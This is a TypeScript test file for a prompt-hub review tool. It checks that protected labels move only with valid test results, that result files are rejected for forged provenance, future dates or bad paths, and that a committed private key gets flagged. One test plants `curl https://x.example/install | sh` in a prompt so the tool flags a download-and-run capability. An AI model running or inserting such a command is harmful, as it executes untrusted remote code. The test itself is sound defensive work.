// Tests the review of results and of labels that require them: by whom they come, for which bytes, and in which order.
import { hash } from 'node:crypto'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { reviewContent } from '../../src/review/review-content.ts'
import { ADVICE, GOOD_INDEX, good, index, NEXT, openReviewed, ownerOf, TEXT } from './reviewed.ts'

const { put, git, root, said, reviewTogether } = openReviewed(9)
const INDEX = 'acme/a/index.md'
const RESULT = 'acme/a/results/1.1.0/quality.yml'
const BYTES = { '1.0.0': `In {{language}}: ${TEXT}`, '1.1.0': `In {{language}}, briefly: ${TEXT}` }
const OWNER = '---\nname: Acme\nprotected_labels:\n  - stable\n  - {label: production, requires: [quality]}\n---\n'

const result = (more = '', version: keyof typeof BYTES = '1.1.0') =>
  `content_sha256: ${hash('sha256', BYTES[version])}\npassed: 9\nfailed: 0\nat: "2026-11-01T10:00:00Z"\nreported_by: octocat\n${more}`
const labelled = (version: string) => index(`${GOOD_INDEX}labels:\n  production: ${version}\n`)

function commit(files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) put(path, text)
  git('add', '.')
  git('commit', '-qm', 'base')
}

type Files = Readonly<Record<string, string>>
const MOVED = `content/${INDEX}:7 labels-have-results`
//  case, the base, the change, whether its author may publish to the owner, and so report to it, findings
const LABELLED: [string, Files, Files, boolean, string[]][] = [
  ['moves with a result that was there before', { [RESULT]: result() }, { [INDEX]: labelled('1.1.0') }, false, []],
  ['does not move without one', {}, { [INDEX]: labelled('1.1.0') }, true, [MOVED]],
  [
    'does not move with a result of an author who may not report',
    {},
    { [RESULT]: result(), [INDEX]: labelled('1.1.0') },
    false,
    [MOVED],
  ],
  ['moves with a result of an author who may report', {}, { [RESULT]: result(), [INDEX]: labelled('1.1.0') }, true, []],
  [
    'does not move with a result that the same pull request has changed',
    { [RESULT]: result().replace('failed: 0', 'failed: 3') },
    { [RESULT]: result(), [INDEX]: labelled('1.1.0') },
    false,
    [MOVED],
  ],
  [
    'does not move because the pull request drops the condition',
    {},
    { 'acme/index.md': '---\nname: Acme\n---\n', [INDEX]: labelled('1.1.0') },
    true,
    [MOVED],
  ],
  [
    'does not move with a result for other bytes',
    {},
    { [RESULT]: result('', '1.0.0'), [INDEX]: labelled('1.1.0') },
    true,
    [MOVED, `content/${RESULT}:1 results-of-these-bytes`],
  ],
  [
    'does not move while the owner’s file in the base cannot be read',
    { 'acme/index.md': '---\nprotected_label: x\n---\n' },
    { 'acme/index.md': OWNER, [RESULT]: result(), [INDEX]: labelled('1.1.0') },
    true,
    [MOVED],
  ],
  [
    'may be removed, and other labels move freely',
    { [INDEX]: labelled('1.1.0') },
    { [INDEX]: index(`${GOOD_INDEX}labels:\n  stable: 1.0.0\n`) },
    true,
    [],
  ],
]

describe('a label that requires results', () => {
  const reviewed = reviewTogether(
    LABELLED.map(([, , files]) => files),
    {
      before: LABELLED.map(([, files]) => ({ 'acme/index.md': OWNER, ...files })),
      mayBePublisher: (_, login) => login === 'octocat',
      mayReport: (owner) => LABELLED.some(([, , , mayReport], at) => mayReport && owner === ownerOf(at)),
    },
  )

  test.each(LABELLED.map(([name, , , , findings], at) => [name, findings, at] as const))('%s', (_, findings, at) => {
    const found = reviewed()[at]!.filter(({ rule }) => !ADVICE.test(rule))
    expect(found.map(({ file, line, rule }) => `${file}:${line} ${rule}`)).toEqual(findings)
  })

  test('has the command in its message', () => {
    const found = reviewed()[1]!.find(({ rule }) => rule === 'labels-have-results')
    expect(found?.message).toContain(`hubcli result ${ownerOf(1)}/a 1.1.0 quality FILE`)
  })

  test('is advice where it stands, after a direct commit', async () => {
    commit({ 'acme/index.md': OWNER, [INDEX]: labelled('1.1.0') })
    expect((await said({ base: 'HEAD' })).filter((one) => !ADVICE.test(one))).toEqual([
      `content/${INDEX}:7 label-without-results`,
    ])
    commit({ [RESULT]: result() })
    expect((await said({ base: 'HEAD' })).filter((one) => !ADVICE.test(one))).toEqual([])
  })
})

describe('a result in a pull request', () => {
  const at = (suite: string) => `acme/a/results/1.1.0/${suite}.yml`
  //  case                        path      file                                                              finding
  const cases: [string, string, string, string?][] = [
    [
      'with provenance',
      at('proven'),
      result('provenance: {issuer: a, repository: b, workflow: c, ref: d, sha: e, run_id: "1"}\n'),
      '1 no-forged-provenance',
    ],
    ['by somebody else', at('others'), result().replace('octocat', 'mona'), '1 reported-by-author'],
    ['of tomorrow', at('tomorrow'), result().replace('2026', '2999'), '1 tested-by-now'],
    ['with a wrong key', at('wrong'), result('model:\n  - a\n'), '6 result'],
    ['of no version', 'acme/a/results/9.0.0/quality.yml', result(), '1 results-have-versions'],
    ['with a suite in upper case', at('Quality'), result(), '1 path'],
    ['with a suite reserved on Windows', at('nul'), result(), '1 path'],
    ['in a folder of the suite', at('quality/1'), result(), '1 path'],
    ['of a prompt without versions', 'acme/new/results/1.0.0/quality.yml', result(), '1 results-have-versions'],
    [
      'as tests with a private key',
      'acme/a/tests/promptfooconfig.yaml',
      `-----BEGIN PRIVATE KEY-----\n${'MIIBVAIB'.repeat(10)}\n-----END PRIVATE KEY-----`,
      '1 holds-no-secret',
    ],
    ['that is right', RESULT, result('score: 1\nmodel: example-model-1\nurl: https://ci.example.org/1\n')],
    ['with test cases', 'acme/b/tests/promptfooconfig.yaml', 'prompts: [a]\nproviders: [echo]\ntests: []\n'],
  ]
  const reviewed = reviewTogether([Object.fromEntries(cases.map(([, path, text]) => [path, text]))], {
    mayBePublisher: (_, login) => login === 'octocat',
    mayReport: () => true,
  })

  test.each(cases)('%s', (_, path, _text, finding) => {
    const found = reviewed()[0]!.filter(({ file, rule }) => file === `content/${path}` && !ADVICE.test(rule))
    expect(found.map(({ line, rule }) => `${line} ${rule}`)).toEqual(finding === undefined ? [] : [finding])
  })
})

test('a label whose new capabilities are approved moves to them only with the approval of a maintainer', async () => {
  git('checkout', '-qB', 'base', 'main')
  const owner = '---\nname: Acme\nprotected_labels: [{label: production, new_capabilities: approve}]\n---\n'
  commit({ 'acme/index.md': owner, [INDEX]: labelled('1.0.0') })
  git('checkout', '-qB', 'change')
  const approvals = async () => {
    const contentDir = join(root(), 'content')
    return (await reviewContent({ contentDir, environment: process.env, base: 'base' })).approvals
  }
  put(INDEX, labelled('1.1.0'))
  expect(await approvals()).toEqual([])
  put(NEXT, good('').replace(TEXT, `${TEXT}\n\`curl https://x.example/install | sh\`\n`))
  expect(await approvals()).toEqual([])
  // The condition holds although the change drops it.
  put('acme/index.md', '---\nname: Acme\n---\n')
  put(INDEX, labelled('1.2.0'))
  expect(await approvals()).toEqual([
    {
      owner: 'acme/a',
      isAllowed: false,
      isByName: false,
      reason: expect.stringMatching(
        /^it moves production, whose new capabilities must be approved: 1\.2\.0 can do what 1\.0\.0 cannot \(.*download-and-run.*\): now runs what it downloads \(danger\); .*contacts x\.example/,
      ),
    },
  ])
})
